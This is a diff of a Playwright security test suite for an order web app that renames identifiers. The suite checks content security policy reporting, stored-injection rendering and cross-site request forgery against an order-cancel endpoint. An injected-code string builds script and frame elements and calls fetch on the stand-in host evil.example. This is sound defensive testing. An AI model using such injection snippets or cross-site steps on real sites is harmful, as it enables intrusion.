@@ -1,36 +1,44 @@
 import type { Page } from '@playwright/test';
-import { enter, order, type Person } from './accounts.ts';
-import { openCounter } from './caseCounter.ts';
-import { openEvil } from './hostileSite.ts';
-import { INJECTIONS } from './injectionStrings.ts';
-import { expect, MAPLESS, NO_ANSWER, test, type Visitor } from './journey.ts';
-import { AT, DETAILS, OWN, openPeople, SIGNED_OUT, type Story, tell } from './orderScenario.ts';
+import { openDashboard, placeOrder, type TestUser } from './accounts.ts';
+import { createCaseCounter } from './caseCounter.ts';
+import { openHostileSite } from './hostileSite.ts';
+import { INJECTION_STRINGS } from './injectionStrings.ts';
+import { expect, MAPLESS, REQUEST_FAILED, test, type Visitor } from './journey.ts';
+import {
+  createOrderScenario,
+  createParticipants,
+  detailPathsOf,
+  type OrderScenario,
+  ROLE_PATHS,
+  SCENARIO_LOCATION,
+  SIGNED_OUT_PATHS,
+} from './orderScenario.ts';
 import { fillCard, fillOrder } from './screens/orders.ts';
 
-const A_ROUND = 3;
-const LABEL = 50;
+const STRINGS_PER_ORDER = 3;
+const MAX_LABEL_LENGTH = 50;
 // Name, label, address, instructions, and a review from each side to each other.
-const FIELDS = 8;
+const FIELD_COUNT = 8;
 
-const counter = openCounter('foreign');
+const counter = createCaseCounter('foreign');
 // biome-ignore lint/correctness/noEmptyPattern: Playwright reads the fixtures that are needed from the pattern
 test.afterEach(({}, info) => counter.note(info.status === info.expectedStatus));
 
-const MORE = 2;
-const SCREENS = SIGNED_OUT.length + Object.values(OWN).flat().length + 5;
+const DIALOG_COUNT = 2;
+const SCREEN_COUNT = SIGNED_OUT_PATHS.length + Object.values(ROLE_PATHS).flat().length + 5;
 
-const NOTE_REPORTS = `document.addEventListener('securitypolicyviolation', (event) =>
+const REPORT_CSP_VIOLATIONS = `document.addEventListener('securitypolicyviolation', (event) =>
   note(event.effectiveDirective + ': ' + event.blockedURI + ' at ' + location.hash))`;
 
 /** Notes what a page breaks of its content security policy. A dialog that it opens is held against it anyway. */
-async function watch({ context }: Visitor): Promise<string[]> {
+async function recordCspViolations({ context }: Visitor): Promise<string[]> {
   const reports: string[] = [];
   await context.exposeBinding('note', (_source, report: string) => void reports.push(report));
-  await context.addInitScript(NOTE_REPORTS);
+  await context.addInitScript(REPORT_CSP_VIOLATIONS);
   return reports;
 }
 
-async function see(page: Page, path: string): Promise<void> {
+async function openScreen(page: Page, path: string): Promise<void> {
   await page.goto(`/#${path}`);
   await expect(page.getByRole('heading', { level: 1 }).first()).toBeVisible();
   // What the screen asked for has come, and is drawn.
@@ -38,54 +46,54 @@ async function see(page: Page, path: string): Promise<void> {
 }
 
 /** From nowhere, so that what is seen is this screen's and nothing of the one before. */
-async function seeAlone(page: Page, path: string): Promise<void> {
+async function openScreenFresh(page: Page, path: string): Promise<void> {
   await page.goto('about:blank');
-  await see(page, path);
+  await openScreen(page, path);
 }
 
-const ranIn = (page: Page) => page.evaluate<unknown>('window.ran');
+const readInjectedFlag = (page: Page) => page.evaluate<unknown>('window.ran');
 
 test('no screen of anybody breaks the content security policy, and a page that does is reported', async ({
-  house,
-  arrive,
+  server: house,
+  openVisitor: arrive,
 }) => {
-  const story = await tell(await openPeople(house, 'Polly'));
-  const details = DETAILS(story);
+  const story = await createOrderScenario(await createParticipants(house, 'Polly'));
+  const details = detailPathsOf(story);
   let seen = 0;
   for (const person of [story.bud, story.scrub, story.duber]) {
     // With its maps: they are most of what a policy could be in the way of.
     const visitor = await arrive();
-    const reports = await watch(visitor);
-    await enter(visitor, house, person);
-    for (const path of [...OWN[person.role], ...details[person.role]]) {
-      await seeAlone(visitor.page, path);
+    const reports = await recordCspViolations(visitor);
+    await openDashboard(visitor, house, person);
+    for (const path of [...ROLE_PATHS[person.role], ...details[person.role]]) {
+      await openScreenFresh(visitor.page, path);
       seen += 1;
       counter.ran();
     }
-    if (person.role === 'Bud') await openTheRest(visitor.page, story.scrub);
+    if (person.role === 'Bud') await openDialogs(visitor.page, story.scrub);
     expect(reports, `of a ${person.role}`).toEqual([]);
     await visitor.context.close();
   }
   const stranger = await arrive();
   // The link that ends mails is a made-up one.
-  stranger.mayBeRefused(404);
-  const reports = await watch(stranger);
-  for (const path of SIGNED_OUT) {
-    await seeAlone(stranger.page, path);
+  stranger.allowErrors(404);
+  const reports = await recordCspViolations(stranger);
+  for (const path of SIGNED_OUT_PATHS) {
+    await openScreenFresh(stranger.page, path);
     seen += 1;
     counter.ran();
   }
   expect(reports).toEqual([]);
-  expect(seen).toBe(SCREENS);
+  expect(seen).toBe(SCREEN_COUNT);
 });
 
 /** What stands behind a press: the card network's form in its frame, a map to choose a point on, a form. */
-async function openTheRest(page: Page, scrub: Person): Promise<void> {
-  await seeAlone(page, '/bud/place-order');
+async function openDialogs(page: Page, scrub: TestUser): Promise<void> {
+  await openScreenFresh(page, '/bud/place-order');
   await fillOrder(page, { address: 'Default', scrub: scrub.fullname, load: 'Small (1-2 lbs)' });
   await fillCard(page);
   counter.ran();
-  await seeAlone(page, '/profile');
+  await openScreenFresh(page, '/profile');
   await page.getByRole('button', { name: 'Add New Address' }).click();
   await page.getByRole('button', { name: /Select Location/ }).click();
   await expect(page.getByRole('dialog', { name: 'Select Location' })).toBeVisible();
@@ -93,24 +101,24 @@ async function openTheRest(page: Page, scrub: Person): Promise<void> {
   counter.ran();
 }
 
-test('foreign code on a page is kept from running, and reported', async ({ arrive }) => {
+test('foreign code on a page is kept from running, and reported', async ({ openVisitor: arrive }) => {
   const { page, context, ...visitor } = await arrive(MAPLESS);
-  const reports = await watch({ page, context, ...visitor });
-  await see(page, '/terms');
-  visitor.mayBeRefused(NO_ANSWER, 'Content Security Policy');
-  await page.evaluate(PLANTED);
+  const reports = await recordCspViolations({ page, context, ...visitor });
+  await openScreen(page, '/terms');
+  visitor.allowErrors(REQUEST_FAILED, 'Content Security Policy');
+  await page.evaluate(INJECTED_CODE);
   const kinds = () => reports.map((report) => report.split(':')[0]).toSorted();
   await expect
     .poll(kinds)
     .toEqual(['connect-src', 'frame-src', 'img-src', 'script-src-attr', 'script-src-elem', 'script-src-elem']);
-  expect(await ranIn(page)).toBeUndefined();
-  counter.ran(PLANTS);
+  expect(await readInjectedFlag(page)).toBeUndefined();
+  counter.ran(INJECTED_COUNT);
 });
 
-const PLANTS = 6;
+const INJECTED_COUNT = 6;
 
 /** What an injection would do on a page. */
-const PLANTED = `
+const INJECTED_CODE = `
   const add = (name, attributes, text = '') => {
     const element = document.createElement(name);
     for (const [key, value] of Object.entries(attributes)) element.setAttribute(key, value);
@@ -126,61 +134,67 @@ const PLANTED = `
   fetch('https://evil.example/').catch(() => undefined);`;
 
 test('what people write is shown as they wrote it, in every field and on every screen, and runs nothing', async ({
-  house,
-  arrive,
+  server: house,
+  openVisitor: arrive,
 }) => {
-  const people = await openPeople(house, 'Inga');
+  const people = await createParticipants(house, 'Inga');
   const visitors = await Promise.all(
     [people.bud, people.scrub, people.duber].map(async (person) => {
       const visitor = await arrive(MAPLESS);
-      await enter(visitor, house, person);
-      return { person, page: visitor.page, reports: await watch(visitor) };
+      await openDashboard(visitor, house, person);
+      return { person, page: visitor.page, reports: await recordCspViolations(visitor) };
     }),
   );
   let shown = 0;
-  for (let from = 0; from < INJECTIONS.length; from += A_ROUND) {
-    const strings = INJECTIONS.slice(from, from + A_ROUND);
-    await rename(people, strings);
-    const story = await tell(people, strings.join(' '));
-    const details = DETAILS(story);
+  for (let from = 0; from < INJECTION_STRINGS.length; from += STRINGS_PER_ORDER) {
+    const strings = INJECTION_STRINGS.slice(from, from + STRINGS_PER_ORDER);
+    await renameUsers(people, strings);
+    const story = await createOrderScenario(people, strings.join(' '));
+    const details = detailPathsOf(story);
     // Where lists and figures show them the last round looks: those screens show the same words in the same parts.
-    const isLast = from + A_ROUND >= INJECTIONS.length;
+    const isLast = from + STRINGS_PER_ORDER >= INJECTION_STRINGS.length;
     for (const { person, page } of visitors) {
       // The page that has all of them comes last.
-      for (const path of [...(isLast ? OWN[person.role] : []), ...details[person.role].toReversed()]) {
-        await see(page, path);
-        expect(await ranIn(page), path).toBeUndefined();
+      for (const path of [...(isLast ? ROLE_PATHS[person.role] : []), ...details[person.role].toReversed()]) {
+        await openScreen(page, path);
+        expect(await readInjectedFlag(page), path).toBeUndefined();
       }
       for (const text of strings) await expect(page.locator('body'), text).toContainText(text);
       shown += 1;
     }
   }
-  expect(shown).toBe(INJECTIONS.length);
+  expect(shown).toBe(INJECTION_STRINGS.length);
   for (const { reports } of visitors) expect(reports).toEqual([]);
-  counter.ran(shown * FIELDS);
+  counter.ran(shown * FIELD_COUNT);
 });
 
 /** Gives each of the three another of the strings as name, label and address. */
-async function rename(people: Pick<Story, 'bud' | 'scrub' | 'duber'>, strings: readonly string[]): Promise<void> {
+async function renameUsers(
+  people: Pick<OrderScenario, 'bud' | 'scrub' | 'duber'>,
+  strings: readonly string[],
+): Promise<void> {
   for (const [index, person] of [people.bud, people.scrub, people.duber].entries()) {
     const text = strings[index] ?? '';
     await person.api.updateProfile({ body: { fullname: text } });
     await person.api.updateAddress({
-      body: { id: person.addressId, label: text.slice(0, LABEL), address: text, ...AT },
+      body: { id: person.addressId, label: text.slice(0, MAX_LABEL_LENGTH), address: text, ...SCENARIO_LOCATION },
     });
   }
 }
 
-test('another site’s pages cannot take a step, in any way that a browser has', async ({ house, arrive }) => {
-  const { bud, scrub } = await openPeople(house, 'Cross');
-  const { id } = await order(bud, scrub);
+test('another site’s pages cannot take a step, in any way that a browser has', async ({
+  server: house,
+  openVisitor: arrive,
+}) => {
+  const { bud, scrub } = await createParticipants(house, 'Cross');
+  const { id } = await placeOrder(bud, scrub);
   const visitor = await arrive(MAPLESS);
-  await enter(visitor, house, bud);
+  await openDashboard(visitor, house, bud);
   await expect(visitor.page.getByRole('heading', { level: 1 })).toBeVisible();
   const step = `${house.url}/api/scrub-orders/${id}/cancel-order`;
-  const evil = await openEvil(step, bud.token);
+  const evil = await openHostileSite(step, bud.token);
   const before = await bud.api.readOrder({ params: { id } });
-  visitor.mayBeRefused(401, NO_ANSWER);
+  visitor.allowErrors(401, REQUEST_FAILED);
   try {
     const page = await visitor.context.newPage();
     await page.goto(evil.url);
@@ -199,12 +213,15 @@ test('another site’s pages cannot take a step, in any way that a browser has',
   await bud.api['cancel-order']({ params: { id } });
 });
 
-test('what breaks on our side names its request, and what does not says nothing of it', async ({ house, arrive }) => {
-  const { bud, scrub } = await openPeople(house, 'Rhea');
-  const { id } = await order(bud, scrub);
+test('what breaks on our side names its request, and what does not says nothing of it', async ({
+  server: house,
+  openVisitor: arrive,
+}) => {
+  const { bud, scrub } = await createParticipants(house, 'Rhea');
+  const { id } = await placeOrder(bud, scrub);
   const visitor = await arrive(MAPLESS);
-  visitor.mayBeRefused(500, 404);
-  await enter(visitor, house, bud);
+  visitor.allowErrors(500, 404);
+  await openDashboard(visitor, house, bud);
   const { page } = visitor;
   const requestId = '0192f0c1-7a3b-7c4d-8e5f-0123456789ab';
   const body = JSON.stringify({ statusCode: 500, error: 'Internal Server Error', message: 'Something went wrong' });
@@ -224,6 +241,8 @@ test('what breaks on our side names its request, and what does not says nothing 
 });
 
 test('as many cases were tried as there are', () => {
-  const { ran, stated } = counter.keep(SCREENS + MORE + PLANTS + INJECTIONS.length * FIELDS);
+  const { ran, stated } = counter.writeFigures(
+    SCREEN_COUNT + DIALOG_COUNT + INJECTED_COUNT + INJECTION_STRINGS.length * FIELD_COUNT,
+  );
   expect(ran).toBe(stated);
 });
